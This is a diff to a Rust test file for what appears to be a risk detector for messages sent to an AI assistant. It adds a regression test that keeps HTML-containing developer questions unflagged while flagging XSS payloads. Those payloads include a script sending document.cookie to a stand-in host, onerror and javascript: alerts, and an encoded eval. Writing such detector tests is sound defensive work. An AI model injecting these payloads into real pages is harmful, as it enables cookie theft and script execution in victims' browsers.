@@ -596,6 +596,36 @@ fn spans_point_into_original_text() {
 mod regression {
     use super::*;
 
+    /// A script tag, an iframe or an onload attribute was a code-injection payload at 8 (medium)
+    /// on its own, so every web developer pasting HTML was flagged, and so was "JavaScript:"
+    /// opening a sentence. Bare HTML now only corroborates (3); a payload marker, or a message
+    /// that opens with markup, still counts.
+    #[test]
+    fn web_questions_with_html_are_not_payloads() {
+        let det = rules_only();
+        for q in [
+            "Explain closures in JavaScript: when are they useful and when do they leak memory?",
+            "Why does my <script src=\"app.js\" defer></script> run before the DOM is ready?",
+            "How do I embed a video with an <iframe> that scales on mobile?",
+            "My <body onload=\"init()\"> never fires when the page comes back from the cache.",
+        ] {
+            let v = det.scan_text(q);
+            assert!(v.level < RiskLevel::Medium, "{q}: {:?}", v.matches);
+        }
+        for p in [
+            "<script>fetch('//x.example/?c='+document.cookie)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<a href=\"javascript:alert(origin)\">win a prize</a>",
+            "<svg/onload=eval(atob('YWxlcnQoMSk='))>",
+            // A message that opens with markup is a payload, not a question about one.
+            "<script src=//x.example/1.js></script>",
+            "\"><iframe src=//x.example/frame>",
+        ] {
+            let v = det.scan_text(p);
+            assert!(v.level >= RiskLevel::Medium, "{p}: {:?}", v.matches);
+        }
+    }
+
     /// "Do not share your config file" in an onboarding page read as a request to share the
     /// assistant's configuration (extraction, 9). Only the negated verb itself cancels: a
     /// negation elsewhere near the chain must not become a bypass.
